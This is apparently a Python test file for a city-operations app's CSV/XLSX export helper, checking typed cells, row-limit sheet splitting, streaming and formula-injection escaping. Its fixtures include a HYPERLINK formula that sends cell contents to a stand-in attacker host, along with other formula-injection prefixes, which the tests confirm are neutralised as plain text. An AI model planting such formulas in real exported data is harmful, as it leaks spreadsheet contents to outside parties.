"""The one export helper: what each cell becomes in CSV and XLSX, formulas never run, the workbook
is streamed and splits past a sheet's row limit, and it opens in openpyxl."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from cityops.core.export import Column, Sheet, csv_unescape, download, file_bytes
from cityops.core.export import xlsx as xlsx_module
from cityops.core.export.cells import csv_text
from cityops.core.export.xlsx import column_letter, sheet_title, xlsx_stream

LEAK = '=HYPERLINK("http://evil.example/?leak="&A2&B2,"详情")'
FORMULAS = [LEAK, "+1+1", "-2+3", "@SUM(A1:A2)", "\tcmd", "\r=1", "＝1+1", "＋1", "－1", "＠SUM(1)"]


def _book(data: bytes):
    return load_workbook(io.BytesIO(data))


def _csv_rows(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def test_formula_looking_text_stays_text_in_xlsx():
    sheet = Sheet("t", [Column("text")], [[f] for f in FORMULAS])
    ws = _book(file_bytes(fmt="xlsx", sheets=[sheet])).active
    cells = [row[0] for row in ws.iter_rows(min_row=2)]
    assert [c.value for c in cells] == [f.replace("\r", "\n") if f.startswith("\r") else f for f in FORMULAS]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    # and the package holds no formula element at all
    with zipfile.ZipFile(io.BytesIO(file_bytes(fmt="xlsx", sheets=[sheet]))) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")


def test_formula_looking_text_gets_an_apostrophe_in_csv_and_reads_back():
    sheet = Sheet("t", [Column("text"), Column("n")], [[f, -5] for f in FORMULAS])
    rows = _csv_rows(file_bytes(fmt="csv", sheets=[sheet]))[1:]
    assert [r[0] for r in rows] == ["'" + f for f in FORMULAS]
    assert [r[1] for r in rows] == ["-5"] * len(FORMULAS)  # a number is a number, not escaped
    assert [csv_unescape(r[0]) for r in rows] == FORMULAS


@pytest.mark.parametrize("text", ["", "plain", "'quoted", "''", "'=1", "it's", "-", "=", "'", "a=b"])
def test_the_csv_escape_is_exactly_reversible(text):
    assert csv_unescape(csv_text(text)) == text
    assert not csv_text(text).startswith(("=", "+", "-", "@"))


def test_cells_are_typed_in_xlsx():
    at = datetime(2026, 5, 1, 16, 30, 15, tzinfo=UTC)  # 2026-05-02 00:30:15 in Asia/Shanghai
    columns = [
        Column("when", format="datetime"),
        Column("when_s"),
        Column("day"),
        Column("rate", format="percent"),
        Column("score", format="decimal"),
        Column("n"),
        Column("dec"),
        Column("flag"),
        Column("none"),
    ]
    row = [at, at, date(2026, 5, 2), 0.98369, 87.5, 42, Decimal("-1.25"), True, None]
    ws = _book(file_bytes(fmt="xlsx", sheets=[Sheet("t", columns, [row])])).active
    when, when_s, day, rate, score, n, dec, flag, none = ws[2]
    assert when.value == datetime(2026, 5, 2, 0, 30, 15) and when.number_format == "yyyy-mm-dd hh:mm"
    assert when_s.is_date and when_s.number_format == "yyyy-mm-dd hh:mm:ss"
    assert day.value == datetime(2026, 5, 2) and day.number_format == "yyyy-mm-dd"
    assert rate.value == pytest.approx(0.98369) and rate.number_format == "0.0%"
    assert (score.value, score.number_format) == (87.5, "0.00")
    assert (n.value, n.data_type, dec.value) == (42, "n", -1.25)
    assert flag.value is True and none.value is None


def test_the_same_cells_in_csv():
    at = datetime(2026, 5, 1, 16, 30, 15, tzinfo=UTC)
    columns = [Column("when", format="datetime"), Column("when_s"), Column("day"), Column("n")]
    rows = _csv_rows(file_bytes(fmt="csv", sheets=[Sheet("t", columns, [[at, at, date(2026, 5, 2), 3]])]))
    assert rows == [
        ["when", "when_s", "day", "n"],
        ["2026-05-02 00:30", "2026-05-02 00:30:15", "2026-05-02", "3"],
    ]


def test_text_is_escaped_and_cleaned_of_what_xml_cannot_hold():
    nasty = "a\x00b\x01c\x0bd\x1fe\ufffef <b>&amp;</b> \ud800"
    rows = [[nasty], ["  spaces kept  "], ["line\nbreak"], ["x" * 40_000]]
    ws = _book(file_bytes(fmt="xlsx", sheets=[Sheet("t", [Column("text")], rows)])).active
    values = [r[0].value for r in ws.iter_rows(min_row=2)]
    assert values[:3] == ["abcdef <b>&amp;</b> ", "  spaces kept  ", "line\nbreak"]
    assert len(values[3]) == 32_767  # Excel's limit on one cell
    csv_rows = _csv_rows(file_bytes(fmt="csv", sheets=[Sheet("t", [Column("text")], rows[:1])]))
    assert csv_rows[1] == ["abcdef <b>&amp;</b> "]


def test_past_the_row_limit_the_rows_continue_on_new_sheets_with_the_header():
    sheet = Sheet("案件/全部", [Column("n"), Column("name")], ([i, f"c{i}"] for i in range(10)))
    book = _book(b"".join(xlsx_stream([sheet], max_rows=4)))
    assert book.sheetnames == ["案件_全部", "案件_全部 (2)", "案件_全部 (3)", "案件_全部 (4)"]
    parts = [[[c.value for c in r] for r in ws.iter_rows()] for ws in book.worksheets]
    assert all(p[0] == ["n", "name"] for p in parts)
    assert [row[0] for p in parts for row in p[1:]] == list(range(10))  # every row, once, in order
    assert [len(p) for p in parts] == [4, 4, 4, 2]


def test_sheet_titles_are_valid_and_unique():
    taken: set[str] = set()
    long = "部门" * 20
    assert sheet_title(long, taken) == long[:31]
    assert sheet_title(long, taken) == long[:27] + " (2)"
    assert sheet_title("a[b]:c*d?e", taken) == "a_b__c_d_e"
    assert sheet_title("A_B__C_D_E", taken) == "A_B__C_D_E (2)"  # Excel compares titles without case
    assert [column_letter(i) for i in (0, 25, 26, 701, 702)] == ["A", "Z", "AA", "ZZ", "AAA"]


def test_the_workbook_is_streamed_before_the_rows_are_read(monkeypatch):
    monkeypatch.setattr(xlsx_module, "ROWS_PER_WRITE", 10)
    monkeypatch.setattr(xlsx_module, "FLUSH_BYTES", 1)
    read = []

    def rows():
        for i in range(100_000):
            read.append(i)
            yield [i, f"row {i}"]

    stream = xlsx_stream([Sheet("t", [Column("n"), Column("text")], rows())])
    first = next(stream)
    assert first.startswith(b"PK\x03\x04")  # a zip's first entry header: the download has begun
    assert read == []  # before the query has given its first row
    second = next(stream)
    assert second and 0 < len(read) < 50_000  # compressed rows follow while the rest are unread
    first += second
    data = first + b"".join(stream)
    assert len(read) == 100_000
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert z.testzip() is None
        sheet = z.getinfo("xl/worksheets/sheet1.xml")
        assert sheet.flag_bits & 0x08  # sizes after the data: written to an unseekable stream
        assert sheet.file_size < 0xFFFFFFFF and sheet.extract_version == 20  # no ZIP64
    assert _book(data).active.max_row == 100_001


def test_the_csv_is_streamed_in_pieces():
    read = []

    def rows():
        for i in range(50_000):
            read.append(i)
            yield [i, "某某路 123 号"]

    stream = download(name="t", fmt="csv", sheets=[Sheet("t", [Column("n"), Column("a")], rows())])
    chunks = iter(stream.streaming_content)
    assert next(chunks).startswith("\ufeffn,a".encode())
    assert read == []
    next(chunks)
    assert 0 < len(read) < 50_000
    assert stream["Content-Disposition"].startswith('attachment; filename="t-')


def test_a_row_wider_than_its_sheet_is_a_programming_error():
    with pytest.raises(ValueError, match="more cells than its sheet has columns"):
        file_bytes(fmt="xlsx", sheets=[Sheet("t", [Column("a")], [[1, 2]])])


def test_unknown_formats_are_refused():
    with pytest.raises(ValueError, match="unknown export format"):
        file_bytes(fmt="ods", sheets=[Sheet("t", [Column("a")], [])])
    with pytest.raises(ValueError, match="one table"):
        file_bytes(fmt="csv", sheets=[Sheet("t", [Column("a")], []), Sheet("u", [Column("a")], [])])
    with pytest.raises(ValueError, match="unknown column format"):
        Column("a", format="money")
